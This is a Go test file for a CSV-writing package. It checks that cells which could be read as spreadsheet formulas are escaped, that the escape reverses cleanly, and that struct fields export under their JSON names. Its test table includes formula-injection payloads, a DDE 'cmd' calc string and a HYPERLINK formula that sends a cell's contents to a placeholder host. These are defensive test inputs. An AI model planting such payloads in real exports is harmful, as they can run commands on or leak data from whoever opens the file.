package text_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/belfryhq/belfry/internal/text"
)

// Invariant 1: whatever begins as a formula does is a text.
func TestGuarded_NoCellBecomesAFormula(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"":                                "",
		"Hello":                           "Hello",
		"a=b":                             "a=b",
		`=HYPERLINK("http://x/?"&A1,"x")`: `'=HYPERLINK("http://x/?"&A1,"x")`,
		"=cmd|' /C calc'!A0":              "'=cmd|' /C calc'!A0",
		"+82-10-1234-5678":                "'+82-10-1234-5678",
		"-2+3+cmd|' /C calc'!A0":          "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)":                       "'@SUM(1+1)",
		"\t=1+1":                          "'\t=1+1",
		"\r=1+1":                          "'\r=1+1",
		"\n=1+1":                          "'\n=1+1",
		"  =1+1":                          "'  =1+1",
		"＝1+1":                            "'＝1+1",
		"＠SUM(1)":                         "'＠SUM(1)",
		"-":                               "'-",
		"-5":                              "-5",
		"+1.5":                            "+1.5",
		"-1.5e-3":                         "-1.5e-3",
		"-.5":                             "-.5",
		"+821012345678":                   "+821012345678",
		"-5m":                             "'-5m",
		"-1e":                             "'-1e",
		"'=1":                             "''=1",
		"'Hello":                          "'Hello",
		"'-5":                             "'-5",
	} {
		require.Equal(t, want, text.Guarded(cell), "%q", cell)
	}
}

// Invariant 1, of the writer: every cell of every row is guarded.
func TestWriter_GuardsEachCell(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	w := text.NewCSV(&out)
	require.NoError(t, w.Row("=name", "title"))
	require.NoError(t, w.Row("1", `=1+1,"x"`))
	require.NoError(t, w.Flush())
	require.Equal(t, "'=name,title\n1,\"'=1+1,\"\"x\"\"\"\n", out.String())
}

// Invariant 2: a file of guarded cells can be read back.
func FuzzUnguarded_TakesTheGuardAway(f *testing.F) {
	for _, cell := range []string{"", "=1", "'=1", "''=1", "'", "-5", "'-5", " =", "' =", "\t", "＝"} {
		f.Add(cell)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		guarded := text.Guarded(cell)
		require.Equal(t, cell, text.Unguarded(guarded))
		rest := strings.TrimLeft(guarded, " ")
		if rest != "" && strings.ContainsRune("=@\t\r\n", rune(rest[0])) {
			t.Fatalf("%q begins as a formula does", guarded)
		}
	})
}

type inner struct {
	Sent int64  `json:"sent"`
	Note string `json:"note,omitempty"`
}

type base struct {
	ID   int64  `json:"id"`
	Name string `json:"name"`
}

type record struct {
	base

	Name    string            `json:"name"` // in place of the embedded one
	At      time.Time         `json:"at"`
	Until   *time.Time        `json:"until"`
	Done    inner             `json:"done"`
	Maybe   *inner            `json:"maybe"`
	Media   []string          `json:"media"`
	Parts   []inner           `json:"parts"`
	Labels  map[string]string `json:"labels"`
	Raw     json.RawMessage   `json:"raw"`
	Share   *float64          `json:"share"`
	Hidden  string            `json:"-"`
	private string
}

func TestRecords_HaveTheNamesOfTheirJSON(t *testing.T) {
	t.Parallel()
	r := text.RecordsOf(reflect.TypeFor[*record]())
	require.Equal(t, "id name at until done.sent done.note maybe.sent maybe.note media parts labels raw share", strings.Join(r.Names(), " "))
	share := 0.5
	full := record{
		base: base{ID: 7, Name: "not this"}, Name: "a <b>\n& \"c\"", At: time.Date(2026, 11, 20, 9, 0, 0, 5e8, time.FixedZone("KST", 9*3600)),
		Done: inner{Sent: 1_234_567}, Media: []string{"push", "sms"}, Parts: []inner{{Sent: 1}}, Labels: map[string]string{"k": "<v>"}, Raw: json.RawMessage(`"text"`), Share: &share,
		Hidden: "x", private: "y",
	}
	var out bytes.Buffer
	w := text.NewCSV(&out)
	require.NoError(t, w.Row(r.Names()...))
	require.NoError(t, r.Each([]record{full, {}}, w.Row))
	require.NoError(t, r.Each(&full, w.Row))
	require.NoError(t, w.Flush())
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	want := []string{"7", "a <b>\n& \"c\"", "2026-11-20T00:00:00Z", "", "1234567", "", "", "", "push,sms", `[{"sent":1}]`, `{"k":"<v>"}`, "text", "0.5"}
	require.Equal(t, [][]string{r.Names(), want, {"0", "", "", "", "0", "", "", "", "", "", "", "", ""}, want}, rows)
	require.ErrorContains(t, r.Each(inner{}, w.Row), "a record is a text_test.record")
	require.Panics(t, func() { text.RecordsOf(reflect.TypeFor[string]()) })
}
